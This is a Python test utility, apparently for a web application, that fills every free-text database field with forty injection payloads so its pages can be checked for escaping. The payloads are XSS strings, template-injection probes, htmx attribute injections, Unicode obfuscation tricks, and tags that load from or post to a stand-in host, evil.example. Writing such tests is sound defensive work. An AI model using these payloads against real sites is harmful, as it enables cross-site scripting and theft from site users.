"""Forty texts that would like to be more than text, and a pen that writes them into every field there is."""

import re
from typing import Any

from sqlalchemy import JSON, String, Text, bindparam

from netevent.extensions import db

PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "<svg onload=alert(3)>", "<svg/onload=alert`4`>",
    "\"><script>alert(5)</script>", "'><img src=x onerror=alert(6)>", "\" onmouseover=\"alert(7)", "' onfocus='alert(8)' autofocus='",
    "</title><script>alert(9)</script>", "</textarea><script>alert(10)</script>", "</style><script>alert(11)</script>",
    "--><script>alert(12)</script>", "<iframe src=javascript:alert(13)>", "<a href=javascript:alert(14)>x</a>",
    "javascript:alert(15)", "JaVaScRiPt:alert(16)", "data:text/html,<script>alert(17)</script>", "<object data=data:text/html,x>",
    "<embed src=//evil.example/x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/>",
    "<meta http-equiv=refresh content=0;//evil.example>", "<style>@import'//evil.example'</style>", "<b style=background:url(//evil.example)>",
    "zx{{7*7}}zx", "{% include 'x' %}", "${7*7}", "%(name)s", "#{7*7}",
    "<b hx-get=//evil.example hx-trigger=load>", "<b hx-on:click=alert(31)>", "\" hx-on=\"load:alert(32)", "<b hx-vals=js:alert(33)>",
    "<b data-hx-post=//evil.example>", "<form action=//evil.example><button>", "<math><mi xlink:href=javascript:alert(36)>",
    "＜script＞alert(37)＜/script＞", "<scr\u200bipt>alert(38)</script>", "\u2028alert(39)\u2028", "&lt;script&gt;alert(40)&lt;/script&gt;",
)  # fmt: skip
PLAIN = re.compile(  # what nobody types: codes, hashes, choices of a list; a changed one would only hide the page
    r"code|hash|token|challenge|nonce|key|kind|state|zone|language|notice|version|subject|status|fingerprint|direction"
    r"|source|outcome|^result$|^digest$|^counts$|role$|answer$|by$|via|verb|noun|cadence|strength|contact_ok|register|scope|felt|who_talked|need_kind|offer_kind"
    r"|^met$|^choice$|^channel$|due_chip|asked_for|email|address|message_id|sign_count|working_days|credential|public|next_path|location|slots"
)
TYPED_ROLES = {"people.role", "contacts.role"}
LONG = 300  # a field without a limit is given this much
LINK = "https://example.org/"


def poison(turn: int) -> int:
    """Write into every field of every row; over forty turns each payload stands in each field. Returns the fields."""
    fields = 0
    for table in db.metadata.sorted_tables:
        keys = list(table.primary_key.columns)
        for column in table.columns:
            if not typed(table.name, column):
                continue
            fields += 1
            rows = list(db.session.execute(table.select()))
            for number, row in enumerate(rows):
                where = [key == getattr(row, key.name) for key in keys]
                words = text_for(column, turn + number * 13)
                db.session.execute(
                    table.update().where(*where).values({column: bindparam("words", words, column.type)})
                )
    db.session.commit()
    return fields


def typed(table: str, column: Any) -> bool:
    """Whether somebody writes this, in a form or in a list that is imported."""
    if column.primary_key or column.foreign_keys or not isinstance(column.type, String | Text | JSON):
        return False
    return f"{table}.{column.name}" in TYPED_ROLES or not PLAIN.search(column.name)


def text_for(column: Any, turn: int) -> Any:
    """As many payloads as the field holds."""
    room = getattr(column.type, "length", None) or LONG
    words = LINK if column.name == "link" else ""
    for step in range(len(PAYLOADS)):
        longer = f"{words} {PAYLOADS[(turn + step) % len(PAYLOADS)]}".strip()
        if len(longer) > room:
            break
        words = longer
    return [words[:40]] if isinstance(column.type, JSON) else words
